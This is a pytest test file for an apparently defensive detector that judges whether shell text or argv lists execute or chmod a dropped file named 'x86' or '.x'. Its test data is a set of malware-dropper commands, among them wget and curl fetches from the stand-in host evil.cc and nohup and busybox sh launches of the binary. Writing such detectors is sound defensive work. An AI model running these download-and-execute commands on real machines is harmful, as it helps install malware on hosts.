from __future__ import annotations

import pytest

from urltrap.pipeline.running import runs, text_runs

NAMES = {b"x86", b".x"}


@pytest.mark.parametrize(
    "text",
    [
        b"chmod +x x86", b"chmod 777 x86; ls", b"chmod -R 0755 /tmp/x86", b"chmod u+rwx a b x86", b"cd /tmp; ./x86",
        b"/tmp/.x arg", b"sh x86", b"bash -x ./x86 &", b"nohup ./x86 >/dev/null 2>&1 &", b"chmod 777 'x86'",
        b"exec /var/run/x86", b"python x86", b"a && ./.x || b", b"perl x86",
    ],
)  # fmt: skip
def test_text_that_makes_a_file_run_is_seen(text: bytes) -> None:
    assert text_runs(text, NAMES)


@pytest.mark.parametrize(
    "text",
    [
        b"wget http://evil.cc/x86", b"rm -f x86", b"chmod 644 x86", b"chmod -x x86", b"ls -l ./x86.txt", b"cat x86y",
        b"./x86_64", b"chmod +x other; rm x86", b"echo x86", b"ls x86", b"curl -o x86 http://evil.cc/x86",
    ],
)  # fmt: skip
def test_text_that_does_something_else_with_it_is_not(text: bytes) -> None:
    assert not text_runs(text, NAMES)


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        ([b"./x86"], True),
        ([b"/tmp/.x", b"a"], True),
        ([b"chmod", b"+x", b"/tmp/x86"], True),
        ([b"chmod", b"755", b"x86"], True),
        ([b"chmod", b"644", b"x86"], False),
        ([b"sh", b"x86"], True),
        ([b"/bin/busybox", b"sh", b"x86"], True),
        ([b"cat", b"x86"], False),
        ([b"rm", b"x86"], False),
        ([b"sh", b"other"], False),
        ([b""], False),
    ],
)
def test_programs_that_run_a_file_are_told_from_others(argv: list[bytes], expected: bool) -> None:
    assert runs(argv, NAMES) is expected


def test_a_megabyte_of_slashes_and_chmods_ends() -> None:
    for text in (b"x86" + b"/" * 1_000_000, b"x86 " + b"chmod +x " * 100_000, b"x86" + b" sh" * 300_000):
        text_runs(text, NAMES)
